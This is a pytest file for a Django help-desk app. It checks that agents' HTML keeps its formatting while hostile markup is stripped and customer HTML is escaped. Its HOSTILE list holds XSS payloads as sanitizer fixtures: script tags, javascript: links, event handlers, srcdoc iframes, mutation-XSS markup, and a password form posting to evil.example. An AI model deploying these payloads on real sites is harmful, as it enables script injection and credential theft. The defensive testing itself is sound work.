"""What agents write shows with its bold, lists, links and pictures, and nothing in it runs."""

import re
import uuid

import pytest
from django.core.files.base import ContentFile
from django.template.loader import render_to_string
from django.urls import reverse

from conversations.inbound.receive import receive
from conversations.models import Attachment, Message
from conversations.outbound.compose import note, reply
from conversations.templatetags.desk import formatted
from tests.conftest import from_ann

pytestmark = pytest.mark.django_db

HOSTILE = [
    "<b>x</b><script>alert(1)</script>",
    '<b onclick="alert(1)" style="position:fixed" class="banner" id="page">x</b>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="/sign-out/" hx-post="/sign-out/">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<img src="https://tracker.example/p.gif" onerror="alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<img src="cid:nobody@nowhere" srcset="https://tracker.example/p.gif 1x">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe><b>x</b>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg><b>x</b>',
    '<form action="https://evil.example"><input name="password"><button>x</button></form><b>x</b>',
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)></style></mglyph></table></mtext></math><b>x</b>",
]


@pytest.fixture
def heard(mail):
    return receive(from_ann(mail, 'I typed <b>this</b> <script>alert("x")</script>'))


def shown(message):
    return render_to_string("conversations/timeline/message.html", {"message": message, "event": message})


def test_bold_lists_and_links_of_an_answer_show_as_such(heard, ada, mail):
    html = '<p>Bring <b>tags</b></p><ul><li>box</li></ul><p><a href="https://hollin.example/r">label</a></p>'
    more = {"by": ada, "channel": mail, "identity": heard.identity, "client_id": uuid.uuid4()}
    page = shown(reply(heard.conversation, html=html, **more))
    assert "<b>tags</b>" in page and "<li>box</li>" in page
    (link,) = re.findall(r"<a [^>]*>label</a>", page)
    for part in ('href="https://hollin.example/r"', 'target="_blank"', 'rel="noopener noreferrer"'):
        assert part in link


def test_a_picture_in_a_note_comes_from_its_own_address_and_once(heard, ada):
    picture = Attachment(
        uploaded_by=ada, name="shelf.png", content_type="image/png", size=3, content_id="p1@throughline"
    )
    picture.is_inline = True
    picture.file.save("p", ContentFile(b"png"), save=True)
    html = '<p>Look:</p><img src="cid:p1@throughline" alt="the shelf">'
    written = note(heard.conversation, html=html, by=ada, client_id=uuid.uuid4(), attachments=[picture])
    page = shown(Message.objects.get(pk=written.pk))
    assert f'<img src="{reverse("file", args=[picture.pk])}" alt="the shelf">' in page
    assert page.count("<img") == 1


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_html_in_our_own_message_is_harmless(html, heard, ada):
    row = Message.objects.create(conversation=heard.conversation, kind="note", author=ada, html=html, text="x")
    words = formatted(row).lower()
    for bad in (
        "script",
        "onerror",
        "onclick",
        "style",
        "class",
        "id=",
        "hx-",
        "src",
        "data:",
        "<form",
        "<svg",
        "/sign",
    ):
        assert bad not in words


def test_plain_words_keep_their_links_and_what_customers_write_stays_text(heard, ada):
    plain = note(heard.conversation, html="<p>See https://hollin.example/r</p>", by=ada, client_id=uuid.uuid4())
    assert formatted(plain) == ""
    assert 'href="https://hollin.example/r"' in shown(plain)
    heard.html = "<b>this</b>"
    assert formatted(heard) == ""
    assert "&lt;b&gt;this&lt;/b&gt;" in shown(heard)
